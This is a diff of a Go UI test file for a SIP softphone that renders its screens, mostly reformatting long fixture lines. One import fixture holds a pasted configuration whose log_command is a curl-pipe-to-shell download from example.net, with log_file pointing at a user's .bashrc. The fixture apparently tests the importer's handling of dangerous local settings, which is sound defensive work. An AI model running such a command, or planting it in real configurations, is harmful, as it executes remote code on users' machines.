@@ -22,8 +22,9 @@ import (
 	"calla/ui/widget"
 )
 
-// TestScreens draws every screen, light and dark, narrow and wide: none is blank, whatever takes the keyboard says what it is
-// to a screen reader, and every icon drawn exists. With CALLA_SCREENS set to a folder the pictures are kept there.
+// TestScreens draws every screen, light and dark, narrow and wide: none is blank, whatever takes the keyboard says what
+// it is to a screen reader, and every icon drawn exists. With CALLA_SCREENS set to a folder the pictures are kept
+// there.
 func TestScreens(t *testing.T) {
 	dir := os.Getenv("CALLA_SCREENS")
 	sizes := map[string]account.Size{"narrow": {Width: minWidth, Height: minHeight}, "wide": {Width: 1000, Height: 680}}
@@ -97,7 +98,10 @@ func screens() map[string]func(*opened) fyne.Window {
 			s := idle()
 			s.Accounts[0].Status = phone.StatusRetrying
 			s.Accounts[0].RetryAt = time.Now().Add(8 * time.Second)
-			s.Accounts[0].Problem = &cause.Cause{Kind: cause.ServerNotFound, Server: "wss://sip.example.com", Action: cause.ActionEditAccount}
+			s.Accounts[0].Problem = &cause.Cause{
+				Kind: cause.ServerNotFound, Server: "wss://sip.example.com",
+				Action: cause.ActionEditAccount,
+			}
 			o.update(s)
 		}),
 		"calling":  page(func(o *opened) { o.update(inPhase(phone.PhaseCalling)) }),
@@ -142,7 +146,8 @@ func screens() map[string]func(*opened) fyne.Window {
 		"ended": page(func(o *opened) {
 			s := idle()
 			s.Ended = &phone.EndedCall{
-				CallID: "c1", Account: "Office", Name: "Bob Marsh", Address: "bob@example.com", Cause: cause.Cause{Kind: cause.Busy}, Code: 486, At: time.Now(),
+				CallID: "c1", Account: "Office", Name: "Bob Marsh", Address: "bob@example.com",
+				Cause: cause.Cause{Kind: cause.Busy}, Code: 486, At: time.Now(),
 			}
 			o.update(s)
 		}),
@@ -160,7 +165,10 @@ func screens() map[string]func(*opened) fyne.Window {
 			o.main.dial.fill("030 1234567 Bob")
 			o.main.dial.dial()
 			s := idle()
-			s.Refusal = &phone.Refusal{ID: "r", Command: phone.CommandDial, Cause: *o.phone.ReadDialled("office", "030 1234567 Bob").Problem}
+			s.Refusal = &phone.Refusal{
+				ID: "r", Command: phone.CommandDial,
+				Cause: *o.phone.ReadDialled("office", "030 1234567 Bob").Problem,
+			}
 			o.update(s)
 		}),
 		"ended-digits": page(func(o *opened) {
@@ -183,28 +191,36 @@ func screens() map[string]func(*opened) fyne.Window {
 		}),
 		"import": page(func(o *opened) {
 			i := newImporter(o.app, func(config.Config) {})
-			i.text.SetText("{ uri: 'alice@example.com', ws_servers: ['wss://sip.example.com'], password: 'x', session_timers: true }")
+			i.text.SetText("{ uri: 'alice@example.com', ws_servers: ['wss://sip.example.com'], password: 'x', " +
+				"session_timers: true }")
 			o.main.openSheet("Paste a JsSIP configuration", i.object, i.use)
 		}),
 		"import-to-fill": page(func(o *opened) {
 			i := newImporter(o.app, func(config.Config) {})
-			i.text.SetText("const agent = new JsSIP.UA({\n  uri: 'alice@example.com',\n  password: process.env.SIP_PASSWORD,\n  ws_servers: 'wss://sip.example.com',\n  stun_servers: 'stun.example.com:3478',\n  pasword: 1 });")
+			i.text.SetText("const agent = new JsSIP.UA({\n  uri: 'alice@example.com',\n  password: " +
+				"process.env.SIP_PASSWORD,\n  ws_servers: 'wss://sip.example.com',\n  stun_servers: " +
+				"'stun.example.com:3478',\n  pasword: 1 });")
 			o.main.openSheet("Paste a JsSIP configuration", i.object, i.use)
 		}),
 		"import-several": page(func(o *opened) {
 			i := newImporter(o.app, func(config.Config) {})
-			i.text.SetText("new JsSIP.UA({ uri: 'alice@example.com', ws_servers: 'wss://a.example' });\nnew JsSIP.UA({ uri: 'bob@example.com', ws_servers: 'wss://b.example' });")
+			i.text.SetText("new JsSIP.UA({ uri: 'alice@example.com', ws_servers: 'wss://a.example' });\nnew " +
+				"JsSIP.UA({ uri: 'bob@example.com', ws_servers: 'wss://b.example' });")
 			i.which.Choose(1)
 			o.main.openSheet("Paste a JsSIP configuration", i.object, i.use)
 		}),
 		"import-local": page(func(o *opened) {
 			i := newImporter(o.app, func(config.Config) {})
-			i.text.SetText("{ uri: 'alice@example.com', ws_servers: ['wss://sip.example.com'], calla: {log_command: 'sh -c \"curl https://example.net/x | sh\"', log_file: '/home/alice/.bashrc'} }")
+			i.text.SetText("{ uri: 'alice@example.com', ws_servers: ['wss://sip.example.com'], calla: {log_command: " +
+				"'sh -c \"curl https://example.net/x | sh\"', log_file: '/home/alice/.bashrc'} }")
 			o.main.openSheet("Paste a JsSIP configuration", i.object, i.use)
 		}),
 		"enter-password": page(func(o *opened) { o.main.askPassword("office") }),
 		"start-empty":    page(func(o *opened) { o.main.askStartEmpty() }),
-		"place":          page(func(o *opened) { o.main.askPlace(account.ErrKeyringAbsent, func(account.SecretPlace) {}) }),
+		"place": page(func(o *opened) {
+			o.main.askPlace(account.ErrKeyringAbsent,
+				func(account.SecretPlace) {})
+		}),
 		"wizard-who": page(func(o *opened) {
 			o.main.openWizardDetails()
 		}),
@@ -222,7 +238,8 @@ func screens() map[string]func(*opened) fyne.Window {
 		"call-stand-in": page(func(o *opened) {
 			s := inPhase(phone.PhaseEstablished)
 			s.Calls[0].Problem = &cause.Cause{
-				Kind: cause.DeviceStandsIn, Gone: []string{"Jabra Evolve 40"}, Used: []string{"Built-in microphone"}, Action: cause.ActionChooseDevice,
+				Kind: cause.DeviceStandsIn, Gone: []string{"Jabra Evolve 40"}, Used: []string{"Built-in microphone"},
+				Action: cause.ActionChooseDevice,
 			}
 			o.update(s)
 		}),
@@ -239,18 +256,39 @@ func withoutMicrophone() phone.State {
 	s := idle()
 	s.Devices.Capture = []account.DeviceChoice{{}, {ID: "mon", Name: "Monitor of Built-in Audio", Loopback: true}}
 	s.Devices.Settings = account.Devices{}
-	s.Devices.Problem = &cause.Cause{Kind: cause.NoMicrophone, System: cause.SystemOnlyChosen, Action: cause.ActionChooseDevice}
+	s.Devices.Problem = &cause.Cause{
+		Kind: cause.NoMicrophone, System: cause.SystemOnlyChosen,
+		Action: cause.ActionChooseDevice,
+	}
 	return s
 }
 
 func someSteps() []doctor.Step {
 	return []doctor.Step{
-		{ID: 1, Check: cause.CheckSettings, Status: doctor.OK, Took: time.Millisecond, Cause: cause.Cause{Kind: cause.Complete}},
-		{ID: 2, Check: cause.CheckName, Server: "wss://sip-ws-1.example.com", Status: doctor.OK, Took: 4 * time.Millisecond, Cause: cause.Cause{Kind: cause.Addresses, Names: []string{"203.0.113.9"}}},
-		{ID: 3, Check: cause.CheckConnection, Status: doctor.OK, Took: 11 * time.Millisecond, Cause: cause.Cause{Kind: cause.Addresses, Names: []string{"203.0.113.9:443"}}},
-		{ID: 4, Check: cause.CheckEncryption, Status: doctor.OK, Took: 23 * time.Millisecond, Cause: cause.Cause{Kind: cause.CertificateGood, Text: "TLS 1.3", At: time.Now().AddDate(0, 0, 61)}},
-		{ID: 5, Check: cause.CheckWebSocket, Status: doctor.OK, Took: 9 * time.Millisecond, Cause: cause.Cause{Kind: cause.SwitchedProtocols}},
+		{
+			ID: 1, Check: cause.CheckSettings, Status: doctor.OK, Took: time.Millisecond,
+			Cause: cause.Cause{Kind: cause.Complete},
+		},
+		{
+			ID: 2, Check: cause.CheckName, Server: "wss://sip-ws-1.example.com", Status: doctor.OK,
+			Took: 4 * time.Millisecond, Cause: cause.Cause{Kind: cause.Addresses, Names: []string{"203.0.113.9"}},
+		},
+		{
+			ID: 3, Check: cause.CheckConnection, Status: doctor.OK, Took: 11 * time.Millisecond,
+			Cause: cause.Cause{Kind: cause.Addresses, Names: []string{"203.0.113.9:443"}},
+		},
+		{
+			ID: 4, Check: cause.CheckEncryption, Status: doctor.OK, Took: 23 * time.Millisecond,
+			Cause: cause.Cause{Kind: cause.CertificateGood, Text: "TLS 1.3", At: time.Now().AddDate(0, 0, 61)},
+		},
+		{
+			ID: 5, Check: cause.CheckWebSocket, Status: doctor.OK, Took: 9 * time.Millisecond,
+			Cause: cause.Cause{Kind: cause.SwitchedProtocols},
+		},
 		{ID: 6, Check: cause.CheckRegistration, Status: doctor.Running},
-		{ID: 7, Check: cause.CheckTURN, Server: "turns:turn.example.com", Status: doctor.Failed, Cause: cause.Cause{Kind: cause.TURNRefused, Server: "turns:turn.example.com"}},
+		{
+			ID: 7, Check: cause.CheckTURN, Server: "turns:turn.example.com", Status: doctor.Failed,
+			Cause: cause.Cause{Kind: cause.TURNRefused, Server: "turns:turn.example.com"},
+		},
 	}
 }
